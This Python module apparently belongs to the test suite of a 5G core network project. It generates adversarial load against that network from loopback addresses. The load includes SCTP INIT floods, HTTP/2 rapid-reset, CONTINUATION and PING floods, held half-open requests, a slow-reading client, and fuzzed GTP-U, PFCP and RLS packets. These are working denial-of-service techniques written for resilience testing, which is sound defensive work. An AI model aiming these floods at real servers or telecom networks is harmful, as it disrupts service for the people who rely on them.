"""Who means harm, on real sockets and without root: floods at N2, SBI, N4, N3 and Uu of a network that is up."""

import os
import random
import socket
import struct
import time
from collections.abc import Iterator, Sequence
from contextlib import suppress

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from awase.protocols.gtpu.codec import encode as gtpu
from awase.protocols.gtpu.messages import EchoRequest, GPdu
from awase.protocols.rls.codec import encode as rls
from awase.protocols.rls.messages import Heartbeat, PduTransmission, PduType
from awase.protocols.sctp.config import Config
from awase.protocols.sctp.entity import Endpoint
from awase.protocols.sctp.events import AssociationUp
from awase.protocols.sctp.messages import ChunkType
from awase.wire.errors import EncodeError

SOURCES = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
NGAP_PORT, UDP_PORT = 38412, 9899
FRAMES = 30_000
POLITE, AT_ONCE = 8, 32


class Strangers:
    """Hosts of a block of loopback addresses that is theirs alone."""

    def __init__(self, seed: int = 1) -> None:
        self.random = random.Random(seed)
        self.hosts = [f"127.{200 + os.getpid() % 50}.{os.getpid() >> 6 & 255}.{n + 1}" for n in range(SOURCES)]

    def udp(self, host: str = "") -> socket.socket:
        """A socket at one of the hosts."""
        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        made.bind((host or self.random.choice(self.hosts), 0))
        return made

    def throw(self, to: tuple[str, int], datagrams: Iterator[bytes], number: int) -> None:
        """Send so many datagrams, as fast as it goes."""
        sockets = [self.udp(host) for host in self.hosts]
        for i in range(number):
            with suppress(OSError):
                sockets[i % SOURCES].sendto(next(datagrams), to)
        for each in sockets:
            each.close()

    def mutated(self, seeds: Sequence[bytes]) -> Iterator[bytes]:
        """Messages with a few octets that are others, cut short, or nothing but noise."""
        chance = self.random
        while True:
            octets = bytearray(chance.choice(seeds))
            kind = chance.randrange(4)
            if kind == 0:
                octets = bytearray(chance.randbytes(chance.randrange(200)))
            elif kind == 1:
                del octets[chance.randrange(len(octets)) :]
            else:
                for _ in range(3):
                    octets[chance.randrange(len(octets))] = chance.randrange(256)
            yield bytes(octets)

    # N2.

    def inits(self, number: int = 20_000) -> list[bytes]:
        """INITs of as many that do not exist, which never show their cookies."""
        endpoint = Endpoint(lambda n, _: os.urandom(n))
        endpoint.connect("127.0.0.1", NGAP_PORT)
        ((_, _, octets),) = endpoint.take_datagrams(0)
        return [octets] * number

    def flood_of_inits(self, host: str) -> None:
        """20,000 INITs."""
        self.throw((host, UDP_PORT), iter(self.inits()), 20_000)

    def rubbish_at_n2(self, host: str) -> None:
        """Noise, half packets, and packets that were an INIT."""
        self.throw((host, UDP_PORT), self.mutated(self.inits(1)), 5_000)

    def associations(self, host: str, number: int, payload: bytes = b"") -> int:
        """Come with so many associations, say something on each, and never answer again; how many came up."""
        up = 0
        for source in self.hosts:
            carrier, endpoint = self.udp(source), Endpoint(lambda n, _: os.urandom(n), Config(max_associations=1 << 16))
            carrier.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            carrier.settimeout(0.2)
            for _ in range(POLITE):
                for _ in range(AT_ONCE):
                    endpoint.connect(host, NGAP_PORT, udp_port=UDP_PORT)
                up += self._bring_up(carrier, endpoint, AT_ONCE, payload)
            # Then all the others at once, come what may.
            for _ in range(number // SOURCES - POLITE * AT_ONCE):
                endpoint.connect(host, NGAP_PORT, udp_port=UDP_PORT)
            up += self._bring_up(carrier, endpoint, number, payload)
            carrier.close()
        return up

    def _bring_up(self, carrier: socket.socket, endpoint: Endpoint, wanted: int, payload: bytes) -> int:
        """As many as come up before there is silence, or the time is over."""
        up, end_s = 0, time.monotonic() + 1.5
        while up < wanted and time.monotonic() < end_s:
            for to, port, octets in endpoint.take_datagrams(time.monotonic_ns()):
                carrier.sendto(octets, (to, port))
            try:
                octets, address = carrier.recvfrom(65_536)
                endpoint.receive(octets, address, time.monotonic_ns())
            except OSError:
                break
            for event in endpoint.take_events():
                if isinstance(event, AssociationUp):
                    up += 1
                    if payload:
                        endpoint.send(event.association, 0, 60, payload)
        for to, port, octets in endpoint.take_datagrams(time.monotonic_ns()):
            carrier.sendto(octets, (to, port))
        return up

    def half_a_message(self, host: str) -> socket.socket:
        """Begin a long message on an association, and say no more; the socket that is not to be closed yet."""
        carrier, endpoint = self.udp(), Endpoint(lambda n, _: os.urandom(n), Config(max_packet_bytes=512))
        carrier.settimeout(2)
        made = endpoint.connect(host, NGAP_PORT, udp_port=UDP_PORT)
        self._bring_up(carrier, endpoint, 1, b"")
        with suppress(EncodeError):
            endpoint.send(made, 1, 60, b"\x00\x15\x80" + bytes(20_000))
        for to, port, octets in endpoint.take_datagrams(time.monotonic_ns())[:2]:
            carrier.sendto(octets, (to, port))
        return carrier

    def deaf(self, host: str, number: int = 20_000) -> None:
        """Ask for answer after answer on an association, and read none."""
        carrier, endpoint = self.udp(), Endpoint(lambda n, _: os.urandom(n), Config(send_buffer_bytes=64 << 20))
        carrier.settimeout(2)
        made = endpoint.connect(host, NGAP_PORT, udp_port=UDP_PORT)
        self._bring_up(carrier, endpoint, 1, b"")
        for _ in range(number):
            with suppress(EncodeError):
                endpoint.send(made, 0, 60, b"\x00\x15\x00\x7frubbish")
        end_s = time.monotonic() + 2
        while time.monotonic() < end_s:
            for to, port, octets in endpoint.take_datagrams(time.monotonic_ns()):
                carrier.sendto(octets, (to, port))
            with suppress(OSError):
                octets, address = carrier.recvfrom(65_536)
                # Its acknowledgements let us go on; what we are told we have not heard.
                if octets[12:13] == bytes((ChunkType.SACK,)):
                    endpoint.receive(octets, address, time.monotonic_ns())
        carrier.close()

    # SBI.

    def connections(self, to: tuple[str, int], number: int, octets: bytes) -> None:
        """Connect so often from many hosts, say half of something, and keep the last 600 open."""
        held: list[socket.socket] = []
        for i in range(number):
            made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("=ii", 1, 0))
            made.settimeout(5)
            with suppress(OSError):
                made.bind((self.hosts[i % SOURCES], 0))
                made.connect(to)
                made.send(octets)
            held.append(made)
            if len(held) > 600:
                held.pop(0).close()
        for each in held:
            each.close()

    def http_floods(self, to: tuple[str, int]) -> None:
        """Floods of frames, each on a connection of its own."""
        header = HeadersFrame(1, b"\x82\x86\x84\x41\x04here").serialize()
        resets = (
            HeadersFrame(n, b"\x82\x86\x84\x41\x04here", flags=["END_HEADERS", "END_STREAM"]).serialize()
            + RstStreamFrame(n, 8).serialize()
            for n in range(1, 2 * FRAMES, 2)
        )
        for frames in (
            resets,
            (SettingsFrame(0, {3: 100}).serialize() for _ in range(FRAMES)),
            (PingFrame(0, b"12345678").serialize() for _ in range(FRAMES)),
            (header if n == 0 else ContinuationFrame(1, b"").serialize() for n in range(FRAMES)),
        ):
            # What is answered is not read.
            with socket.create_connection(to, timeout=5, source_address=(self.hosts[0], 0)) as flood, suppress(OSError):
                flood.sendall(PREFACE)
                for octets in frames:
                    flood.sendall(octets)

    def half_requests(self, to: tuple[str, int], number: int = 64) -> list[socket.socket]:
        """Begin requests, in the field section and in the body, and say no more; the sockets, not to be closed yet."""
        halves = (
            HeadersFrame(1, b"\x82\x86").serialize(),
            HeadersFrame(1, b"\x83\x86\x84\x41\x04here", flags=["END_HEADERS"]).serialize()
            + DataFrame(1, b"{").serialize(),
            HeadersFrame(1, b"\x82\x86\x84", flags=["END_HEADERS"]).serialize()[:7],
        )
        held = []
        for i in range(number):
            held.append(socket.create_connection(to, timeout=5, source_address=(self.hosts[i % SOURCES], 0)))
            held[-1].sendall(PREFACE + halves[i % len(halves)])
        return held

    # N3, N4, Uu.

    def gtpu(self, to: tuple[str, int], number: int = 20_000) -> None:
        """Packets for tunnels that are not there, and such that are no packets."""
        seeds = [gtpu(GPdu(teid=n * 7919, payload=bytes(60))) for n in range(64)]
        self.throw(to, self.mutated([*seeds, gtpu(EchoRequest(sequence_number=1))]), number)

    def pfcp(self, to: tuple[str, int], number: int = 20_000) -> None:
        """Requests of nobody's: association set-up, heartbeat, session establishment, cut short and changed."""
        seeds = [
            struct.pack(">BBHI", 0x20, 1, 12, 1 << 8) + bytes.fromhex("0060000400000001"),
            struct.pack(">BBHI", 0x20, 5, 25, 2 << 8) + bytes.fromhex("003c0005007f000001" + "0060000400000001"),
            struct.pack(">BBHQI", 0x21, 50, 34, 0, 3 << 8)
            + bytes.fromhex("003c0005007f000001" + "0039000d020000000000000001" + "7f000001"),
            struct.pack(">BBHQI", 0x21, 52, 12, 1, 4 << 8),
        ]
        self.throw(to, self.mutated(seeds), number)

    def rls(self, to: tuple[str, int], number: int = 20_000) -> None:
        """UEs and cells that are not there, and noise."""
        chance = self.random
        seeds = [rls(Heartbeat(sti=chance.getrandbits(64))) for _ in range(64)]
        rrc = PduTransmission(sti=5, pdu_type=PduType.RRC, pdu_id=1, payload=0, pdu=bytes(20))
        data = PduTransmission(sti=5, pdu_type=PduType.DATA, payload=1, pdu=bytes(60))
        self.throw(to, self.mutated([*seeds, rls(rrc), rls(data)]), number)


class SlowReader:
    """Asks for all it may on one connection, grants an octet of the answers now and then, and reads as slowly."""

    STREAMS = 900

    def __init__(self, host: str, to: tuple[str, int], path: str) -> None:
        self.closed = False
        self.read = 0
        self._socket = socket.create_connection(to, timeout=5, source_address=(host, 0))
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        encoder = Encoder()
        authority = f"{to[0]}:{to[1]}"
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
        # No answer may be longer than an octet at first (RFC 9113 clause 6.9.2).
        octets = PREFACE + SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 1}).serialize()
        for n in range(self.STREAMS):
            flags = ["END_HEADERS", "END_STREAM"]
            octets += HeadersFrame(2 * n + 1, encoder.encode(fields), flags=flags).serialize()
        self._socket.sendall(octets)
        self._socket.settimeout(0)
        self._turn = 0

    def tick(self) -> None:
        """An octet more of one answer, and one octet read."""
        self._turn += 1
        stream = 2 * (self._turn % self.STREAMS) + 1
        try:
            self._socket.send(WindowUpdateFrame(stream, 1).serialize())
            got = self._socket.recv(1)
            self.closed = self.closed or not got
            self.read += len(got)
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True

    def close(self) -> None:
        """Give it up."""
        self._socket.close()
